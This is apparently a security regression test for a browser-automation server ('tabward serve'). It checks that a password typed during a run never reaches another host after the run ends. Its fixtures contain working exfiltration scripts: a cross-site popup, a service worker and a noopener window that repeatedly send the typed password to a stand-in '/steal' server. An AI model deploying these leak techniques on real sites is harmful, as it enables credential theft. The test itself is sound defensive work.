// What a recipe run started does not carry its typed secret out after the run ends, in the user's Chrome under
// `tabward serve`, where the browser and its gate outlive every run. Found by an attack review: a run's taint stopped
// counting when its tab closed, while what the page had handed the password to lived on: a popup it opened (closed
// only when the session ended, never under serve: the password left every 200 ms, through the next run too), a
// window its last click opened with no opener and whose page came after the tab had closed (never told to
// Playwright as a popup: it sent for good), and the service worker of a cross-site frame (kept alive, 2 to 7 sends
// a run). A run's popups, told or not, now close with its tab (RecipePage.close; the gate knows every window's
// opener), and a worker's requests are judged with the taint of runs that ended too (requestTaint.ts, retired).
// Assertions on what the other host received.

import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { startUserChrome, type UserChrome } from '../../src/demo/yourChrome.ts';
import { type Fixture, html, startFixture, testChromeArgs } from '../helpers/fixtureServer.ts';
import { type RunningServe, startServe } from '../helpers/tabwardProcess.ts';

let site: Fixture;
let evil: Fixture;
let chrome: UserChrome;
let serve: RunningServe | undefined;
let base = '';
const token = 'leftovers-serve-token-0123456789';
const home = mkdtempSync(join(tmpdir(), 'tabward-leftovers-'));
const secrets = join(home, 'secrets.env');
const password = 'hunter22-leftovers';

before(async () => {
  evil = await startFixture({ '/steal': (_req, _body, res) => html(res, 'ok') });
  const to = `'http://localhost:${evil.port}/steal'`;
  const login = (extra: string) =>
    `<title>Sign in</title>${extra}<input name="password" type="password" aria-label="Password"><p id="ready">ready</p>`;
  site = await startFixture({
    // A cross-site popup (a process of its own, not stopped with the tab) asks its opener for what was typed.
    '/with-popup': (_req, _body, res) =>
      html(
        res,
        `${login(`<button id="help" onclick="window.open('${site.url('widgets.example', '/popup')}')">Help</button>`)}
        <script>
          let value = '';
          document.querySelector('input').addEventListener('input', (e) => { value = e.target.value; });
          addEventListener('message', (e) => { if (value) e.source.postMessage(value, '*'); });
        </script>`,
      ),
    '/popup': (_req, _body, res) =>
      html(
        res,
        `<title>Help</title><p>help</p>
        <script>
          let value = '';
          addEventListener('message', (e) => { value = e.data; });
          setInterval(() => { if (!value && opener) opener.postMessage('want', '*'); }, 10);
          setInterval(() => { if (value) fetch(${to} + '?how=popup&v=' + encodeURIComponent(value), { mode: 'no-cors' }).catch(() => {}); }, 20);
        </script>`,
      ),
    // A cross-site frame (a secure context: *.localhost) hands what the page tells it to its service worker.
    '/with-worker': (_req, _body, res) =>
      html(
        res,
        `${login(`<iframe src="${site.url('widgets.localhost', '/worker-frame')}"></iframe>`)}
        <script>
          addEventListener('message', (e) => { if (e.data === 'worker ready') document.body.insertAdjacentHTML('beforeend', '<p id="worker">worker</p>'); });
          document.querySelector('input').addEventListener('input', (e) => frames[0].postMessage(e.target.value, '*'));
        </script>`,
      ),
    '/worker-frame': (_req, _body, res) =>
      html(
        res,
        `<script>
          let worker;
          navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready).then((registration) => { worker = registration.active; parent.postMessage('worker ready', '*'); });
          addEventListener('message', (e) => worker && worker.postMessage(e.data));
        </script>`,
      ),
    '/worker.js': (_req, _body, res) => {
      res.writeHead(200, { 'content-type': 'text/javascript' }).end(`
        let value = '';
        self.addEventListener('install', () => self.skipWaiting());
        self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
        self.addEventListener('message', (e) => { value = e.data; e.waitUntil(new Promise((done) => setTimeout(done, 60000))); });
        setInterval(() => { if (value) fetch(${to} + '?how=worker&v=' + encodeURIComponent(value), { mode: 'no-cors' }).catch(() => {}); }, 20);
      `);
    },
    // The run's last click opens a window with no opener whose answer takes a moment, the password in its hash
    // (never sent): Playwright tells of a window once its first document commits, and not as a popup once its
    // opener has closed; the window sends the password on once it has loaded.
    '/with-slow-window': (_req, _body, res) =>
      html(
        res,
        `${login(`<button id="open" onclick="window.open('/slow-window#' + encodeURIComponent(document.querySelector('input').value), '_blank', 'noopener')">Open</button>`)}`,
      ),
    '/slow-window': (_req, _body, res) => {
      setTimeout(
        () =>
          html(
            res,
            `<title>Welcome</title><script>setInterval(() => fetch(${to} + '?how=slow-window&v=' + location.hash.slice(1), { mode: 'no-cors' }).catch(() => {}), 20);</script>`,
          ),
        1_500,
      );
    },
    '/plain': (_req, _body, res) => html(res, '<title>Plain</title><p id="ready">ready</p>'),
  });
  writeFileSync(secrets, `LOGIN_PASSWORD=${password}\n`, { mode: 0o600 });
  chrome = await startUserChrome({ chromeArgs: testChromeArgs });
  serve = await startServe(
    token,
    ['--allow-private', '--secrets', secrets, '--shared', '--ws-endpoint', chrome.wsEndpoint],
    { home },
  );
  base = serve.base;
});

after(async () => {
  serve?.child.kill('SIGTERM');
  await chrome?.close();
  await site?.close();
  await evil?.close();
});

async function run(recipe: object): Promise<{ ok?: boolean; error?: unknown }> {
  const response = await fetch(`${base}/run`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    body: JSON.stringify({ recipe }),
  });
  return (await response.json()) as { ok?: boolean; error?: unknown };
}

const type = { action: 'type', selector: 'input[name=password]', secret: 'LOGIN_PASSWORD' };
const cases = [
  { name: 'a popup it told', path: '/with-popup', steps: [{ action: 'click', selector: '#help' }, type] },
  {
    name: "a cross-site frame's service worker",
    path: '/with-worker',
    steps: [{ action: 'waitFor', selector: '#worker' }, type],
  },
  {
    name: 'a window its last click opened, with no opener, loaded after the tab closed',
    path: '/with-slow-window',
    steps: [type, { action: 'click', selector: '#open' }],
  },
];

for (const { name, path, steps } of cases)
  test(`after a run typed a password, ${name} sends it nowhere, then or during the next run`, async () => {
    const before = evil.seen.length;
    const typed = await run({ version: 1, name: 'Sign in', url: site.url('127.0.0.1', path), steps });
    assert.equal(typed.ok, true, JSON.stringify(typed.error));
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    const next = await run({ version: 1, name: 'Plain', url: site.url('127.0.0.1', '/plain'), steps: [] });
    assert.equal(next.ok, true, JSON.stringify(next.error));
    await new Promise((resolve) => setTimeout(resolve, 500));
    const got = evil.seen.slice(before).filter((request) => request.path.includes(password));
    assert.deepEqual(
      [...new Set(got.map((request) => `${request.method} ${request.host}${request.path}`))],
      [],
      `the typed password reached another host (${got.length} times)`,
    );
  });
